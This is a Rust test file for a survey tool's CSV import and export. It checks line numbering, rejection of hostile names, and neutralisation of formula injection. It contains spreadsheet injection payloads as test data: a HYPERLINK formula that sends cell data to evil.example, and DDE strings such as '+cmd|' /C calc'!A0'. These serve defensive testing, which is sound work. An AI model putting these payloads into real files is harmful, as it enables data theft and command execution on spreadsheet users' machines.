//! The CSV files as other programs see them: line numbers in a responses file as a
//! person counts them, names under the shared rules of `text.rs`, and exports that a
//! spreadsheet opens without running anything (formula injection).
#![allow(clippy::unwrap_used)] // a failed unwrap is the test failing, with its message

use cxm_domain::answer::Answer;
use cxm_domain::responses_csv::{self, RowOut, from_spreadsheet_safe, spreadsheet_safe};
use cxm_domain::{Model, Respondent, actions_csv, score};

fn model() -> Model {
    Model::default_model()
}

/// The header `respondent,role,department,Q1,Q2` of the default model.
fn header(m: &Model) -> String {
    format!(
        "respondent,role,department,{},{}",
        m.questions[0].id, m.questions[1].id
    )
}

/// Every cell of a CSV text, as the `csv` crate reads it (no trimming, no unquoting).
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn line_numbers_count_blank_lines_crlf_and_cells_with_line_breaks() {
    let m = model();
    // line 1: header (CRLF); 2: A; 3: blank; 4: blank (CRLF); 5–7: B, whose second
    // answer is quoted over three lines; 8: C; 9: blank; 10: D (no final line end).
    let data = format!(
        "{}\r\nA,executive,,1,2\n\n\r\nB,manager,Ops,\"\n3\r\n\",dk\nC,front-line,,,\n\nD,executive,,na,4",
        header(&m)
    );
    let parsed = responses_csv::parse(&m, data.as_bytes()).unwrap();
    let lines: Vec<(u64, &str)> = parsed
        .rows
        .iter()
        .map(|r| (r.line, r.respondent.as_str()))
        .collect();
    assert_eq!(lines, [(2, "A"), (5, "B"), (8, "C"), (10, "D")]);
    assert_eq!(
        parsed.rows[1].answers,
        [(0, Answer::Scale(3)), (1, Answer::DontKnow)]
    );

    // The same shapes with a problem on every row: each is named at its own line.
    let bad = format!(
        "\u{feff}{}\r\nA,executive,,9,\n\n\r\nB,manager,,\"\n3\r\n\",x\nC,boss,,,\n\nD,executive,,,-1",
        header(&m)
    );
    let err = responses_csv::parse(&m, bad.as_bytes()).unwrap_err();
    let got: Vec<(u64, usize)> = err
        .issues
        .iter()
        .map(|i| (i.line, i.column.as_ref().unwrap().0))
        .collect();
    assert_eq!(got, [(2, 4), (5, 5), (8, 2), (10, 5)], "{err}");
}

#[test]
fn a_lone_carriage_return_ends_a_line_as_old_mac_files_do() {
    let m = model();
    let data = format!("{}\rA,executive,,1,\r\rB,boss,,,\r", header(&m));
    let err = responses_csv::parse(&m, data.as_bytes()).unwrap_err();
    assert_eq!(err.issues.len(), 1, "{err}");
    assert_eq!(err.issues[0].line, 4, "{err}");
}

#[test]
fn a_header_after_blank_lines_is_numbered_where_it_is() {
    let m = model();
    let data = "\n\r\nrespondent,role,NOPE\nA,executive,1\n";
    let err = responses_csv::parse(&m, data.as_bytes()).unwrap_err();
    assert_eq!(err.issues.len(), 1, "{err}");
    assert_eq!(err.issues[0].line, 3, "{err}");
}

#[test]
fn names_with_control_characters_or_nothing_visible_are_problems() {
    let m = model();
    let data = format!(
        "{}\nRed\u{1b}[31m,executive,,1,\nevil\u{202E}gnp.exe,manager,,1,\n\u{200B}\u{FEFF},front-line,,1,\nAna,executive,Fin\u{7}ance,1,\nBo,executive,{},1,\n",
        header(&m),
        "x".repeat(201)
    );
    let err = responses_csv::parse(&m, data.as_bytes()).unwrap_err();
    let text = err.to_string();
    for expected in [
        "line 2, column 1 (respondent): the respondent's name contains an escape character",
        "line 3, column 1 (respondent): the respondent's name contains a bidirectional override",
        "line 4, column 1 (respondent): the respondent's name has nothing visible in it",
        "line 5, column 3 (department): the department contains a control character",
        "line 6, column 3 (department): the department is too long (201 characters; at most 200)",
    ] {
        assert!(text.contains(expected), "missing `{expected}` in:\n{text}");
    }
    assert_eq!(err.issues.len(), 5, "{text}");
}

#[test]
fn a_respondent_named_twice_is_found_across_case_and_composition() {
    let m = model();
    let data = format!(
        "{}\nTOMÁS ORTEGA,executive,,1,\nTomás Ortega,manager,,2,\nToma\u{301}s  ortega,manager,,2,\nSTRASSE,manager,,,\nStraße,manager,,,\n",
        header(&m)
    );
    let err = responses_csv::parse(&m, data.as_bytes()).unwrap_err();
    let text = err.to_string();
    assert!(
        text.contains(
            "line 3, column 1 (respondent): respondent `Tomás Ortega` is named twice (also line 2)"
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "line 4, column 1 (respondent): respondent `Tomás  ortega` is named twice (also line 2)"
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "line 6, column 1 (respondent): respondent `Straße` is named twice (also line 5)"
        ),
        "{text}"
    );
    assert_eq!(err.issues.len(), 3, "{text}");
}

#[test]
fn names_are_read_as_they_are_stored_trimmed_and_composed() {
    let m = model();
    let data = format!(
        "{}\n\" Toma\u{301}s Ortega \",executive,\" Gestio\u{301}n \",1,\n\u{200F}שרה,manager,,2,\n",
        header(&m)
    );
    let parsed = responses_csv::parse(&m, data.as_bytes()).unwrap();
    assert_eq!(parsed.rows[0].respondent, "Tomás Ortega");
    assert_eq!(parsed.rows[0].department.as_deref(), Some("Gestión"));
    assert_eq!(parsed.rows[1].respondent, "\u{200F}שרה");
}

const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3",
    "\tTab",
    "\rReturn",
    "'=already quoted",
    "''-twice",
];

#[test]
fn spreadsheet_safe_prefixes_exactly_the_dangerous_cells() {
    for f in FORMULAS {
        assert_eq!(spreadsheet_safe(f), format!("'{f}"), "{f:?}");
        assert_eq!(from_spreadsheet_safe(&spreadsheet_safe(f)), f);
    }
    for plain in [
        "Ana",
        "",
        "'quoted but harmless",
        "O'Neil",
        "3",
        "dk",
        "0.75",
        " =with a space",
    ] {
        assert_eq!(spreadsheet_safe(plain), plain, "{plain:?}");
        assert_eq!(from_spreadsheet_safe(plain), plain, "{plain:?}");
    }
    // A cell from another program that starts with a formula is read as it is.
    assert_eq!(from_spreadsheet_safe("=1+1"), "=1+1");
}

#[test]
fn the_answers_csv_neutralises_formulas_and_reads_back_the_same_names() {
    let m = model();
    let names = [
        "=HYPERLINK(\"http://evil.example\",\"x\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+9)",
        "-2+3",
        "'=quoted already",
        "'plain apostrophe",
        "O'Neil",
    ];
    let mut answers = vec![None; m.questions.len()];
    answers[0] = Some(Answer::Scale(0));
    answers[1] = Some(Answer::DontKnow);
    answers[2] = Some(Answer::NotApplicable);
    answers[3] = Some(Answer::Scale(4));
    let rows: Vec<RowOut<'_>> = names
        .iter()
        .enumerate()
        .map(|(i, n)| RowOut {
            respondent: n,
            role_group: i % 3,
            department: if i == 0 { "=1+1" } else { "Ops" },
            answers: &answers,
        })
        .collect();
    let text = responses_csv::write(&m, &rows);
    let written = cells(&text);
    for (i, name) in names.iter().enumerate() {
        let row = &written[i + 1];
        let dangerous = name
            .trim_start_matches('\'')
            .starts_with(['=', '+', '-', '@']);
        if dangerous {
            assert_eq!(row[0], format!("'{name}"), "{text}");
        } else {
            assert_eq!(row[0], *name, "{text}");
        }
        // Answer cells go out as they are.
        assert_eq!(&row[3..7], ["0", "dk", "na", "4"], "{text}");
    }
    assert_eq!(written[1][2], "'=1+1");
    let parsed = responses_csv::parse(&m, text.as_bytes()).unwrap();
    let back: Vec<&str> = parsed.rows.iter().map(|r| r.respondent.as_str()).collect();
    assert_eq!(back, names);
    assert_eq!(parsed.rows[0].department.as_deref(), Some("=1+1"));
    assert_eq!(parsed.rows[0].answers.len(), 4);
}

/// The default model with hostile texts in the places the actions CSV prints.
fn hostile_model() -> Model {
    let source = cxm_domain::model::DEFAULT_MODEL_TOML
        .replacen(
            "name = \"Strategy\"",
            "name = \"=HYPERLINK(\\\"http://x\\\")\"",
            1,
        )
        .replacen("name = \"Foundation\"", "name = \"@SUM(A1)\"", 1)
        // The first question's statement and recommendation.
        .replacen("\ntext = \"", "\ntext = \"+cmd|' /C calc'!A0 ", 1)
        .replacen("\nrecommendation = \"", "\nrecommendation = \"-2+3 ", 1);
    Model::from_toml(&source, "hostile.toml").unwrap()
}

#[test]
fn the_actions_csv_neutralises_formulas_and_keeps_figures_as_numbers() {
    let m = hostile_model();
    let mut answers = vec![Some(Answer::Scale(4)); m.questions.len()];
    answers[0] = Some(Answer::Scale(0));
    answers[1] = Some(Answer::Scale(1));
    let r = score(
        &m,
        &[Respondent {
            role_group: 0,
            answers,
        }],
    );
    let first = &r.actions[0];
    assert_eq!(first.question, m.questions[0].id);
    let text = actions_csv::write(&m, &r);
    let rows = cells(&text);
    assert_eq!(rows[0], actions_csv::HEADER);
    let row = &rows[1];
    assert_eq!(row[2], "'=HYPERLINK(\"http://x\")");
    assert_eq!(row[4], format!("'{}", first.text));
    assert_eq!(row[6], "'@SUM(A1)");
    assert_eq!(row[9], format!("'{}", first.recommendation));
    // tier, phase, attainment and priority stay numbers.
    assert_eq!(row[0], first.tier.to_string());
    assert_eq!(row[5], "1");
    assert_eq!(row[7], "0.00");
    assert_eq!(row[8], cxm_domain::explain::figure(first.priority));
}

#[test]
fn figures_in_the_actions_csv_are_never_negative_so_never_changed() {
    // priority = (τ − attainment) × weight for attainment below τ, attainment in
    // [0, 1]: both are ≥ 0, so no figure starts with `-` and none is prefixed.
    let m = model();
    let mut rng = fastrand::Rng::with_seed(11);
    for _ in 0..200 {
        let respondents: Vec<Respondent> = (0..rng.usize(1..6))
            .map(|_| Respondent {
                role_group: rng.usize(0..3),
                answers: (0..m.questions.len())
                    .map(|_| match rng.u8(0..8) {
                        0 => None,
                        1 => Some(Answer::DontKnow),
                        2 => Some(Answer::NotApplicable),
                        v => Some(Answer::Scale((v - 3).min(4))),
                    })
                    .collect(),
            })
            .collect();
        let r = score(&m, &respondents);
        let text = actions_csv::write(&m, &r);
        for row in cells(&text).iter().skip(1) {
            for col in [0, 5, 7, 8] {
                let v: f64 = row[col]
                    .parse()
                    .unwrap_or_else(|_| panic!("{:?} is not a number", row[col]));
                assert!(v >= 0.0, "{row:?}");
            }
        }
    }
}
